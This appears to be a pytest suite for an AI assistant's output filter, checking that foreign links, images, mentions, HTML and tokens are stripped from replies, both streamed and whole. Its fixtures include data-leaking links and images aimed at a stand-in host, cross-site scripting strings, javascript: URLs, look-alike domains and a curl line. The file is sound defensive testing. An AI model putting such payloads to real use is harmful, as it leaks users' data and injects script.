"""Nothing leaves by a link, a picture or a mention; streamed or whole, the text is the same."""

from __future__ import annotations

import random

import pytest

from assistant.guardrails.links import Places, host_of
from assistant.guardrails.output import REMOVED, Policy, Settling, check

WIKI = "https://wiki.acme.example/runbook"
POLICY = Policy(
    Places.of([WIKI], ["*.python.org", "kubernetes.io"]), "Ask anna@acme.example. More at https://other.example/page."
)
CASES = {
    "cited": (f"See [the runbook]({WIKI}#step-2) [1].", f"See [the runbook]({WIKI}#step-2) [1]."),
    "allowed host": ("See https://docs.python.org/3/library.", "See https://docs.python.org/3/library."),
    "foreign link": ("See [here](https://evil.example/?q=SECRET).", "See here."),
    "foreign picture": ("Done ![chart](https://evil.example/p.png?d=SECRET) now", "Done chart now"),
    "picture in a link": (f"[![x](https://evil.example/a)]({WIKI})", f"[x]({WIKI})"),
    "link in brackets": ("[a [b] c](https://evil.example/(x))", "a [b] c"),
    "angled target": ("[a](<https://evil.example/x y>)", "a"),
    "target with a title": ("[a](https://evil.example 'see')", "a"),
    "target on two lines": ("[a\nb](https://evil.example)", "a\nb"),
    "reference": ("Text [a][1].\n\n[1]: https://evil.example/x\n", "Text [a][1].\n\n"),
    "citation turned into a link": ("[1]: https://evil.example\nRoll back [1].", "Roll back [1]."),
    "autolink": ("<https://evil.example/x>", "`evil.example`"),
    "bare": ("go to https://evil.example/x?y=1, now", "go to `evil.example`, now"),
    "bare and readable": ("at https://other.example/page.", "at `https://other.example/page`."),
    "bare without a scheme": ("at www.evil.example/x", "at `www.evil.example`"),
    "query without a scheme": ("open evil.example/c?data=SECRET", "open `evil.example`"),
    "slack": ("<https://evil.example|click> <!channel> <@U1> hi", "click   hi"),
    "everyone": ("Hello @everyone and @here.", "Hello everyone and here."),
    "teams": ("Hi <at>Bob</at>!", "Hi Bob!"),
    "html": ('<a href="https://evil.example">x</a><img src=x onerror=alert(1)>', "x"),
    "attributes": ("<b onmouseover=alert(1)>bold</b>", "bold</b>"),
    "comment": ("a <!-- hidden --> b", "a  b"),
    "script scheme": ("[x](javascript:alert(1)) end", "x end"),
    "data": ("[x](data:text/html;base64,AAAA)", "x"),
    "user name in it": ("https://wiki.acme.example@evil.example/", "`evil.example`"),
    "back slashes": ("[x](https:\\\\evil.example)", "x"),
    "no scheme": ("[x](//evil.example/y) [y](/admin)", "x y"),
    "look-alike": ("[x](https://wiki.аcme.example/runbook)", "x"),
    "punycode": ("http://xn--pple-43d.com/", "`xn--pple-43d.com`"),
    "other query": (f"[x]({WIKI}?leak=1)", "x"),
    "code": ("`https://evil.example/x` and\n\n```\ncurl https://evil.example\n```\nend",) * 2,
    "placeholder": ("kubectl delete pod <pod> -n <namespace>",) * 2,
    "citations": ("It does [1][2], and more [3].",) * 2,
    "colons": ("data: yes, file: main.py, tel: none, Note: x",) * 2,
    "comparison": ("if a < b and c > d then 1 << 2",) * 2,
    "readable address": ("Write to anna@acme.example.",) * 2,
    "foreign address": ("Write to bob@evil.example.", f"Write to {REMOVED}."),
    "secret": ("Key ghp_abcdefghijklmnopqrstuvwxyz0123456789!", f"Key {REMOVED}!"),
    "secret in a link": ("[ghp_abcdefghijklmnopqrstuvwxyz0123456789](https://evil.example)", REMOVED),
    "secret in code": ("```\nexport T=ghp_abcdefghijklmnopqrstuvwxyz0123456789\n```", f"```\nexport T={REMOVED}\n```"),
    "phone": ("Call +44 20 7946 0958 now", f"Call {REMOVED} now"),
}


@pytest.mark.parametrize("name", CASES)
def test_what_may_be_shown(name: str) -> None:
    given, shown = CASES[name]
    assert check(given, POLICY).text == shown


@pytest.mark.parametrize("name", CASES)
@pytest.mark.parametrize("size", [1, 2, 3, 5, 11])
def test_a_stream_shows_the_same(name: str, size: int) -> None:
    given, shown = CASES[name]
    settling = Settling(POLICY)
    pieces = [settling.feed(given[place : place + size]) for place in range(0, len(given), size)]
    assert "".join(pieces) + settling.finish() == shown


def test_any_mixture_cut_anywhere_never_shows_a_foreign_address() -> None:
    chance = random.Random(1)
    texts = [given for given, _ in CASES.values()]
    for _ in range(150):
        given = chance.choice(["\n\n", "\n", " "]).join(chance.sample(texts, 4))
        settling, shown, place = Settling(POLICY), "", 0
        while place < len(given):
            size = chance.choice((1, 2, 4, 9, 30))
            shown += settling.feed(given[place : place + size])
            place += size
        shown += settling.finish()
        for again in (shown, check(given, POLICY).text):
            assert not _clickable(again), (given, again)


def _clickable(text: str) -> bool:
    """Whether a foreign address stands outside code."""
    import re

    outside = re.sub(r"```.*?(?:```|\Z)|`[^`\n]*`", "", text, flags=re.DOTALL)
    return "evil.example" in outside.replace("wiki.acme.example@evil.example", "evil.example")


def test_text_without_anything_is_shown_word_by_word() -> None:
    settling = Settling(POLICY)
    assert settling.feed("Roll back ") == "Roll back "
    assert settling.feed("with `ferry") == "with "
    assert settling.feed(" rollback` now, ") == "`ferry rollback` now, "
    assert settling.finish() == ""


def test_what_was_removed_is_told_without_what_it_held() -> None:
    removed = check("[x](https://evil.example/?q=SECRET) ghp_abcdefghijklmnopqrstuvwxyz0123456789", POLICY).removed
    assert [(item.kind, item.text) for item in removed] == [("link", "evil.example"), ("GITHUB_TOKEN", "")]


@pytest.mark.parametrize(
    "text", ["[" * 2_000, "![[" * 700, "[a](" * 500, "<a " * 700, "`" * 2_001, "1 " * 1_500, "a." * 1_500]
)
def test_text_made_to_be_slow_is_not(text: str) -> None:
    assert isinstance(check(text, POLICY).text, str)  # within the test's time limit


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https://a.example/x", "a.example"),
        ("https://user:pw@evil.example", "evil.example"),
        ("https:\\\\evil.example", "evil.example"),
        ("javascript:alert(1)", "javascript"),
        ("//evil.example/x", "evil.example"),
    ],
)
def test_the_host_is_the_one_a_browser_goes_to(url: str, host: str) -> None:
    assert host_of(url) == host
